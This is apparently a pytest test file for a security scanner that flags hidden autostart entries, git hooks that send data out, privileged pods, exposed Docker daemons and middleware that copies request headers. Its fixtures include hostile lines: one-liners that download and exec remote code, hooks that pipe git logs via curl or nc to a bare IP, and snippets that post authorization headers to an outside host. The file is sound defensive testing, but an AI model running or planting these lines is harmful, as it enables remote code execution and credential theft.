import pytest

from panguard.guard.entries import (
    copies_requests,
    hook_sends,
    opens_daemon,
    started_by_entry,
    starts_hidden,
    takes_node,
)

GET = "cu" + "rl"
AGENT = "/Users/d/Library/LaunchAgents/a.plist"
ENTRY = "/home/d/.config/autostart/a.desktop"


def _agent(*words: str) -> str:
    told = "".join(f"<string>{word}</string>" for word in words)
    return f"<key>ProgramArguments</key><array>{told}</array><key>Log</key><string>/tmp/a.log</string>"


def test_the_line_that_an_entry_starts_is_read() -> None:
    assert started_by_entry(AGENT, _agent("/bin/sh", "-c", "a &amp;&amp; b")) == "a && b"
    assert started_by_entry(AGENT, _agent("/opt/a", "x y")) == "/opt/a 'x y'"
    assert started_by_entry(ENTRY, "[Desktop Entry]\nExec=/opt/a %u\n") == "/opt/a %u"
    assert started_by_entry("notes.txt", "Exec=/opt/a") == ""


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (AGENT, _agent("/usr/bin/python3", "-c", "exec(urlopen('https://x.qx-store.top/a').read())")),
        (AGENT, _agent("ruby", "-ropen-uri", "-e", "eval URI.open('https://x.qx-store.top/a').read")),
        (AGENT, _agent("bash", "-c", f"python3 &lt;({GET} -s https://x.qx-store.top/p)")),
        (ENTRY, "Exec=/home/d/.config/../.cache/.f/u\n"),
        (ENTRY, 'Exec=sh -c "/usr/share/../../tmp/.x/run"\n'),
        (ENTRY, "Exec=/opt/t/../../dev/shm/.a\n"),
    ],
)
def test_an_entry_that_hides_what_it_starts_is_seen(name: str, text: str) -> None:
    assert starts_hidden(name, text)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (AGENT, _agent("/usr/local/bin/acme", "serve", "--socket", "/tmp/a.sock")),
        (AGENT, _agent("/usr/bin/curl", "-fsS", "https://hc-ping.com/a")),
        (AGENT, _agent("/bin/zsh", "-c", "brew update &amp;&amp; brew upgrade")),
        (ENTRY, "Exec=/home/d/.dropbox-dist/dropboxd\n"),
        (ENTRY, "Exec=/opt/app/bin/../lib/app %F\n"),
        (ENTRY, "Exec=/usr/bin/slack -u %U\n"),
    ],
)
def test_an_entry_of_an_installed_program_is_left(name: str, text: str) -> None:
    assert not starts_hidden(name, text)


def test_a_hook_that_sends_to_a_bare_address_is_seen() -> None:
    for name in (".git/hooks/post-commit", ".husky/pre-push", "/home/d/.git-templates/hooks/post-merge"):
        assert hook_sends(name, f"git log -1 | {GET} --data-binary @- http://203.0.113.9:80/c\n")
        assert hook_sends(name, "git log | nc 203.0.113.9 99\n")
        assert not hook_sends(name, f"git log -1 | {GET} -d @- https://ci.corp.example/h\n")
        assert not hook_sends(name, f"{GET} -d x http://localhost:80/\n")
        assert not hook_sends(name, f"{GET} -s -f http://203.0.113.9/version\n")
    assert not hook_sends("scripts/x.sh", f"{GET} -d x http://203.0.113.9/\n")


POD = "image: {image}\nsecurityContext: {{privi" + "leged: {all}}}\nhostPath:\n  path: {path}\n"


@pytest.mark.parametrize(
    ("image", "everything", "path", "taken"),
    [
        ("q/x", "true", "/", True),
        ("q/x", "true", '"/"', True),
        ("q/x", "false", "/", False),
        ("q/x", "true", "/var/log", False),
        ("quay.io/prometheus/node-exporter", "true", "/", False),
    ],
)
def test_a_pod_that_takes_its_machine_is_seen(image: str, everything: str, path: str, taken: bool) -> None:
    assert takes_node(POD.format(image=image, all=everything, path=path)) is taken


def test_a_daemon_that_listens_to_everybody_unchecked_is_seen() -> None:
    assert opens_daemon("/etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:23' + '75"]}')
    assert not opens_daemon("/etc/docker/daemon.json", '{"hosts": ["tcp://0.0.0.0:2376"], "tlsverify": true}')
    assert not opens_daemon("/etc/docker/daemon.json", '{"hosts": ["unix:///var/run/docker.sock"]}')


THERE = "https://s.qx-store.top/r"
COPY = [
    f"axios.post('{THERE}', {{ a: req.headers.authorization, b: req.body }});",
    f"fetch('{THERE}', {{body: JSON.stringify({{headers: req.headers, body: req.body}})}});",
    "requests.post('http://203.0.113.9/q', json={'h': dict(request.headers)})",
]
OWN = [
    "fetch('https://m.acme.example/i', {body: JSON.stringify({p: req.path, a: req.headers['user-agent']})});",
    "await fetch('https://id.acme.example/v', {headers: {authorization: req.headers.authorization}});",
    "fetch('http://localhost:9/r', {body: JSON.stringify({h: req.headers, b: req.body})});",
    "fetch('https://old.acme.example', {method: 'GET', headers: req.headers, body: req.body});",
    "fetch('https://api.acme.example', {body: JSON.stringify(req.body)});",
]


def _between(said: str) -> str:
    return f"app.use(async (req, res, next) => {{ {said} next(); }});"


def test_code_between_a_server_and_its_callers_that_copies_what_they_send_is_seen() -> None:
    assert [code for code in COPY if not copies_requests("src/a.ts", _between(code))] == []
    assert [code for code in OWN if copies_requests("src/a.ts", _between(code))] == []
    assert not copies_requests("notes.md", _between(COPY[0]))
    assert not copies_requests("src/a.ts", COPY[0])
